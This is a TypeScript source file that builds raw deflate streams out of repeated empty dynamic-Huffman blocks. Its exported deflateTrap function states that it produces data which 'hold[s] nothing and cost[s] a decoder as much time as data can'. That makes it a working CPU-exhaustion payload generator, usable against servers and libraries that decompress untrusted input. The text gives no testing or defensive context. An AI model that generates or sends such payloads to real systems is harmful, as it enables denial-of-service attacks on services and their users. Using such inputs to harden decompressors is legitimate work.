/** Writes bits in the order of deflate (RFC 1951, 3.1.1). */
class BitWriter {
  readonly bytes: number[] = [];
  #bits = 0;
  #count = 0;

  write(value: number, width: number): void {
    for (let bit = 0; bit < width; bit += 1) {
      this.#bits |= ((value >> bit) & 1) << this.#count;
      this.#count += 1;
      if (this.#count < 8) continue;
      this.bytes.push(this.#bits);
      this.#bits = 0;
      this.#count = 0;
    }
  }

  align(): void {
    if (this.#count > 0) this.write(0, 8 - this.#count);
  }
}

// 18 (a run of zeros) and 1 have a code of one bit each; the order is that of RFC 1951, 3.2.7.
const codeLengthOrder = [16, 17, 18, 0, 8, 7, 9, 6, 10, 5, 11, 4, 12, 3, 13, 2, 14, 1];

/** A block that describes a whole code table and then ends: nothing comes out, and a decoder builds the table. */
function writeEmptyBlock(writer: BitWriter, final: 0 | 1): void {
  writer.write(final, 1);
  writer.write(2, 2);
  writer.write(0, 5);
  writer.write(0, 5);
  writer.write(codeLengthOrder.length - 4, 4);
  for (const length of codeLengthOrder) writer.write(length === 18 || length === 1 ? 1 : 0, 3);
  for (const zeros of [138, 118]) {
    writer.write(1, 1);
    writer.write(zeros - 11, 7);
  }
  writer.write(0, 1);
  writer.write(0, 1);
  writer.write(0, 1);
}

/** Raw deflate data of about `size` bytes that hold nothing and cost a decoder as much time as data can. */
export function deflateTrap(size: number): Buffer {
  const writer = new BitWriter();
  for (let block = 0; block < 8; block += 1) writeEmptyBlock(writer, 0);
  const end = new BitWriter();
  writeEmptyBlock(end, 1);
  end.align();
  const blocks = Buffer.from(writer.bytes);
  const repeated = Buffer.alloc(Math.floor(size / blocks.length) * blocks.length, blocks);
  return Buffer.concat([repeated, Buffer.from(end.bytes)]);
}
